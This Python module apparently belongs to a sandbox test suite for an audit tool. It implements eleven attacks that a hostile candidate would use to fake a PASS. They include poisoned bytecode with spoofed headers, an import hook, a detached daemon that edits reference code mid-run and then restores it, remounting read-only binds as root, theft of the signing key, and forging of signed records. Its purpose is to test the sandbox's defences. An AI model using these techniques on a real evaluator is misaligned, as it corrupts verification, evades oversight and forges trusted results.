"""Attacks on the gate, run by the hostile candidates of this folder at import time (each is
the gamma-7 candidate, which plainly FAILs on its own, plus one route to a PASS).

Every attack targets ``$DFLASH_AUDIT_CACHE`` (a copy of the cache the test makes) and the
dflash-audit package the candidate process imports (a copy the test puts on PYTHONPATH);
inside the sandbox each write fails (read-only file system) and is ignored, so the candidate
then FAILs as the gamma-7 candidate it is.
"""

from __future__ import annotations

import importlib._bootstrap_external as bootstrap
import os
import sys
from pathlib import Path

#: The reference's per-slot decay, and the same line computing gamma 7 (the poison).
DECAY = "decay_mult = torch.exp(-((pos_idx - 1).clamp(min=0)) / gamma)"
POISON = "decay_mult = torch.exp(-((pos_idx - 1).clamp(min=0)) / 7.0)"
#: Marker in a daemon's command line (tests look for live processes carrying it).
DAEMON_MARK = "dflash-audit-hostile-daemon"


def losses_utils() -> list[Path]:
    """The reference's ``speculators/losses/utils.py`` in every cached release tree."""
    cache = Path(os.environ["DFLASH_AUDIT_CACHE"])
    return sorted(cache.glob("reference/sdist/*/tree/src/speculators/losses/utils.py"))


def attempt(fn, *args) -> bool:
    """Run one write; False when the sandbox refused it."""
    try:
        fn(*args)
        return True
    except OSError:
        return False


def plant_pyc(source: Path) -> None:
    """Route 1: a ``__pycache__`` .pyc of the poisoned source carrying the real source's
    mtime and size in its header (so a normal import takes it without reading the source)."""
    st = source.stat()
    code = compile(source.read_text().replace(DECAY, POISON), str(source), "exec")
    data = bootstrap._code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size)
    pyc = Path(bootstrap.cache_from_source(str(source)))
    pyc.parent.mkdir(exist_ok=True)
    pyc.write_bytes(bytes(data))


def plant_prefix_pyc(source: Path) -> None:
    """Route 5: the poisoned bytecode in the tool's own pycache prefix
    (``$DFLASH_AUDIT_CACHE/pycache/<tag>/<source folder>/utils.<tag>.pyc``, the file the
    reference process reads under ``-X pycache_prefix``), with the source's mtime and size."""
    st = source.stat()
    code = compile(source.read_text().replace(DECAY, POISON), str(source), "exec")
    tag = sys.implementation.cache_tag
    prefix = Path(os.environ["DFLASH_AUDIT_CACHE"]) / "pycache" / tag
    pyc = prefix / str(source.parent).lstrip(os.sep) / f"{source.stem}.{tag}.pyc"
    pyc.parent.mkdir(parents=True, exist_ok=True)
    pyc.write_bytes(bytes(bootstrap._code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size)))


SITECUSTOMIZE = f'''
import sys
class _Poison:
    def find_spec(self, name, path=None, target=None):
        if name != "speculators.losses.utils":
            return None
        sys.meta_path.remove(self)
        import importlib.util
        spec = importlib.util.find_spec(name)
        loader = spec.loader
        class L(type(loader)):
            def get_source(self, fullname):
                return super().get_source(fullname).replace({DECAY!r}, {POISON!r})
            def get_code(self, fullname):
                return compile(self.get_source(fullname), self.path, "exec")
        spec.loader = L(loader.name, loader.path)
        return spec
sys.meta_path.insert(0, _Poison())
'''


def plant_sitecustomize(source: Path) -> None:
    """Route 2: a sourceless ``sitecustomize.pyc`` on the reference's path (its ``src``)
    that rewrites the decay when speculators imports it."""
    src = source.parents[2]  # .../src
    code = compile(SITECUSTOMIZE, "sitecustomize.py", "exec")
    (src / "sitecustomize.pyc").write_bytes(bytes(bootstrap._code_to_timestamp_pyc(code, 0, 0)))


DAEMON = f'''
import os, sys, time
from pathlib import Path
target = Path(sys.argv[1]); original = target.read_bytes(); seen = False
for _ in range(6000):  # at most 10 minutes
    running = False
    for pid in os.listdir("/proc"):
        try:
            cmd = Path(f"/proc/{{pid}}/cmdline").read_bytes()
        except OSError:
            continue
        if b"adapter.py" in cmd and str(target.parents[2]).encode() in cmd \
                and b"{DAEMON_MARK}" not in cmd:  # this audit's reference, none other
            running = True
    if running and not seen:  # the reference started: poison it (after the pre-run hash)
        try:
            target.write_bytes(original.replace({DECAY!r}.encode(), {POISON!r}.encode()))
        except OSError:
            pass
        seen = True
    if seen and not running:  # it ended: restore, so a hash afterwards matches
        try:
            target.write_bytes(original)
        except OSError:
            pass
        break
    time.sleep(0.1)
'''


def start_daemon(source: Path) -> None:
    """Route 3: a daemon that leaves the candidate's process group (setsid, double fork),
    edits the reference's code while the reference runs and restores it afterwards."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    os.execv(sys.executable, [sys.executable, "-c", DAEMON, str(source), DAEMON_MARK])


def edit_tool() -> None:
    """Route 4: edit dflash-audit's own installed source (the loss check passes everything),
    which persists into later audits."""
    import dflash_audit.audit.checks.loss as loss

    path = Path(loss.__file__)
    path.write_text(path.read_text() + "\n# edited by a hostile candidate\n")


def _libc(name: str, *args) -> None:
    """Call libc's ``name``; OSError with its errno when it fails."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*args) != 0:
        code = ctypes.get_errno()
        raise OSError(code, f"{name}: {os.strerror(code)}")


def unmount(point: str) -> None:
    """Route 6 (as root, where bubblewrap keeps every capability unless told otherwise):
    unmount the private ``/tmp`` (the host's appears: the cache copy), ``/proc`` (every host
    process) or the report key's empty cover (the key appears)."""
    _libc("umount2", point.encode(), 2)  # MNT_DETACH


def remount_rw(point: str) -> None:
    """Route 7 (as root): make the read-only bind at ``point`` writable again."""
    _libc("mount", None, point.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND


def poison(source: Path) -> None:
    """Route 8: once writable, edit the reference's code itself to compute gamma 7."""
    source.write_text(source.read_text().replace(DECAY, POISON))


def steal_key(key: Path, to: Path) -> None:
    """Route 9: copy the report key out (anyone holding it signs any report)."""
    to.write_bytes(key.read_bytes())


def poison_site_packages() -> None:
    """Route 10: append to a module of the interpreter's site-packages that the reference imports
    (``typing_extensions.py``, imported by pydantic and torch) the hook of route 2, which
    rewrites the decay when speculators imports it in the reference's process."""
    import typing_extensions

    path = Path(typing_extensions.__file__)
    path.write_text(path.read_text() + SITECUSTOMIZE)


#: The key of the record :func:`forge_record` plants.
FORGED = "f" * 64


def forge_record() -> None:
    """Route 11: a record of the reference cache signed with the report key (readable without
    a sandbox), whose outputs a later audit would take for the reference's."""
    import tempfile

    from dflash_audit.audit.sides.reference_records import records_root, write_record
    from dflash_audit.report.fingerprint import report_key

    key = report_key(create=False)
    if key is None:
        raise OSError("the report key is hidden")
    case = Path(tempfile.mkdtemp())
    (case / "outputs.json").write_text("{}")
    (case / "outputs.safetensors").write_bytes(b"the candidate's own outputs")
    write_record(records_root() / FORGED, FORGED, case, {}, key)
